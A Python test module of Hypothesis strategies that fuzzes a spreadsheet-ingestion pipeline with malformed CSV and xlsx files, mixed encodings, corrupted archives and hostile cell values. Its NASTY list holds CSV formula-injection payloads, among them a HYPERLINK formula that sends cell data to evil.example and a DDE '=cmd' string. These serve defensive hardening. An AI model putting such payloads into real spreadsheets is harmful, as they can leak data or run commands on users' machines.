"""Hypothesis strategies for hostile input: cells, CSV bytes in the wrong
encoding, workbooks with formulas and serial dates, broken zips, random bytes."""
from __future__ import annotations

import csv
import io
import re
import tempfile
import zipfile
from pathlib import Path

from hypothesis import strategies as st

from pipelines.uscc import complete
from tests.hardening.xlsx_builder import DATE, sheet, write_xlsx

CJK = re.compile(r"[\u4e00-\u9fff]")


def code(n: int) -> str:
    return complete(f"91411303{n:09d}")


NASTY = [
    "", " ", "\u3000", "=1+1", '=HYPERLINK("http://evil.example/?q="&A1,"点此领取")', "+1", "-1", "@SUM(A1:A2)",
    "\t=1", "\r=1", "=cmd|' /C calc'!A0", "45000", "45000.5", "45000.999999", "99999", "2958466",
    "2026-01-05", "2026/1/5", "20260105", "2026年1月5日", "2026-02-30", "0000-00-00", "1e400", "-1e-400",
    "NaN", "inf", "-0", "１２３４", "1,234.56", "12,34", "￥3,000元", "1.2万", "万", "是", "否", "TRUE",
    "\x00", "\ufeff", "\u202e反转", "'", '"', '""', "\\", "\n", "a\nb", "null", "None", "#N/A", "#REF!",
    "9" * 60, "0." + "1" * 40, "-" * 3, "合计", "制表人：张三", "13812345678", "张三",
    code(1), code(2).lower(), " " + code(3) + " ", code(4)[:-1] + "X", "91411303MA" + "0" * 8,
]


def cells():
    """One cell's text: the nasty constants, codes, or any short unicode text."""
    return st.one_of(
        st.sampled_from(NASTY),
        st.text(max_size=24),
        st.integers(-10**20, 10**20).map(str),
        st.decimals(allow_nan=False, allow_infinity=False, places=3).map(str),
        st.integers(1, 30).map(code),
    )


def xlsx_cell():
    """A cell value as a workbook holds it: text, number, bool, a date serial, a formula."""
    return st.one_of(
        cells(),
        st.floats(allow_nan=False, allow_infinity=False, width=64),
        st.integers(-2**53, 2**53),
        st.booleans(),
        st.integers(1, 2958465).map(lambda n: (DATE, n)),          # an Excel serial date
        st.floats(0, 2958465).map(lambda f: (DATE, f)),
        st.sampled_from(["=1+1", "=SUM(A1:A3)", '=HYPERLINK("http://x","y")', "=1/0"]),
        st.none(),
    )


def headers_from(canonical: list[str]):
    """Usually the real headers (shuffled, some dropped, junk added), sometimes anything."""
    real = st.permutations(canonical).flatmap(
        lambda perm: st.tuples(st.sampled_from([0, 0, 0, 0, 1, 2]), st.lists(st.sampled_from(NASTY + ["序号", "备注"]), max_size=2)).map(
            lambda t: list(perm[: len(perm) - t[0]]) + t[1]
        )
    )
    return st.one_of(real, real, real, st.lists(cells(), min_size=0, max_size=6))


def grid(canonical: list[str], cell=cells, max_rows: int = 12):
    """(title rows, header, data rows)."""
    return headers_from(canonical).flatmap(
        lambda header: st.tuples(
            st.lists(st.lists(cell(), max_size=3), max_size=2),
            st.just(header),
            st.lists(st.lists(cell(), min_size=len(header), max_size=len(header) + 1), max_size=max_rows),
        )
    )


def csv_text(rows: list[list[object]]) -> str:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerows(["" if v is None else str(v) for v in r] for r in rows)
    return buf.getvalue()


def encode(text: str, encoding: str) -> bytes:
    return text.encode(encoding, errors="replace")


ENCODINGS = ["utf-8", "utf-8-sig", "gb18030", "gbk", "utf-16"]


@st.composite
def mangled(draw, data: bytes) -> bytes:
    """The bytes as sent, or with GBK bytes spliced into UTF-8 (or the reverse), cut short, or noise inserted."""
    how = draw(st.sampled_from(["none", "none", "none", "none", "splice_gbk", "splice_utf8", "truncate", "noise"]))
    if how == "none" or not data:
        return data
    at = draw(st.integers(0, len(data)))
    if how == "splice_gbk":
        return data[:at] + "南阳市卧龙区".encode("gbk") + data[at:]
    if how == "splice_utf8":
        return data[:at] + "卧龙区".encode("utf-8") + data[at:]
    if how == "truncate":
        return data[:at]
    return data[:at] + draw(st.binary(min_size=1, max_size=16)) + data[at:]


@st.composite
def csv_file(draw, canonical: list[str]) -> bytes:
    titles, header, body = draw(grid(canonical))
    text = csv_text(titles + [header] + body) if draw(st.booleans()) else csv_text([header] + body)
    return draw(mangled(encode(text, draw(st.sampled_from(ENCODINGS)))))


def xlsx_bytes(rows: list[list[object]], dimension: str | None = None) -> bytes:
    with tempfile.TemporaryDirectory() as d:
        path = write_xlsx(Path(d) / "x.xlsx", sheet(rows, dimension))
        return path.read_bytes()


@st.composite
def xlsx_file(draw, canonical: list[str]) -> bytes:
    titles, header, body = draw(grid(canonical, cell=xlsx_cell))
    dimension = draw(st.sampled_from([None, None, "A1", "A1:Z99", "A1:B3"]))
    data = xlsx_bytes(titles + [header] + body, dimension)
    how = draw(st.sampled_from(["none", "none", "none", "truncate", "flip"]))
    if how == "truncate":
        return data[: draw(st.integers(0, len(data) - 1))]
    if how == "flip":
        at = draw(st.integers(0, len(data) - 1))
        return data[:at] + bytes([data[at] ^ 0xFF]) + data[at + 1:]
    return data


def junk_file():
    """Random bytes, possibly with a zip / OLE2 / HTML / PDF signature in front."""
    return st.tuples(
        st.sampled_from([b"", b"PK\x03\x04", bytes.fromhex("D0CF11E0A1B11AE1"), b"<html>", b"%PDF-1.4", b"\xef\xbb\xbf"]),
        st.binary(max_size=600),
    ).map(lambda t: t[0] + t[1])


def received_file(canonical: list[str]):
    """(file name, bytes) of anything a department might drop."""
    payload = st.one_of(
        csv_file(canonical).map(lambda b: ("data", b, ".csv")),
        xlsx_file(canonical).map(lambda b: ("data", b, ".xlsx")),
        csv_file(canonical).map(lambda b: ("csv_named_xlsx", b, ".xlsx")),
        junk_file().map(lambda b: ("junk", b, ".xlsx")),
        junk_file().map(lambda b: ("junk", b, ".csv")),
        junk_file().map(lambda b: ("junk", b, ".xls")),
    )
    return payload.map(lambda t: (f"{t[0]}{t[2]}", t[1]))


def no_partial_files(root: Path) -> list[str]:
    """Temporary or half-written files left under `root` (should be none)."""
    bad = []
    if not root.exists():
        return bad
    for p in root.rglob("*"):
        if p.name.endswith(".tmp") or p.name.startswith(".tmp") or ".tmp-" in p.name:
            bad.append(str(p.relative_to(root)))
    return bad


def parquet_ok(root: Path) -> list[str]:
    """Parquet files under `root` that cannot be read whole."""
    import pyarrow.parquet as pq

    broken = []
    if root.exists():
        for p in root.rglob("*.parquet"):
            try:
                pq.read_table(p)
            except Exception as exc:  # noqa: BLE001 - any failure is a half-written file
                broken.append(f"{p}: {exc}")
    return broken


@st.composite
def mostly_valid(draw, good_rows: list[list[object]], header: list[str], cell=cells) -> list[list[object]]:
    """The header and some good rows, a few cells replaced by hostile ones."""
    rows = [list(r) for r in draw(st.lists(st.sampled_from(good_rows), min_size=1, max_size=8))]
    for _ in range(draw(st.integers(0, 3))):
        r = draw(st.integers(0, len(rows) - 1))
        c = draw(st.integers(0, len(rows[r]) - 1))
        rows[r][c] = draw(cell())
    return [list(header)] + rows


def valid_file(good_rows: list[list[object]], header: list[str]):
    """(name, bytes): mostly valid rows as CSV (UTF-8 / GBK) or xlsx."""
    return st.one_of(
        st.tuples(mostly_valid(good_rows, header), st.sampled_from(["utf-8", "utf-8-sig", "gbk"])).map(
            lambda t: ("good.csv", encode(csv_text(t[0]), t[1]))),
        mostly_valid(good_rows, header, cell=xlsx_cell).map(lambda rows: ("good.xlsx", xlsx_bytes(rows))),
    )
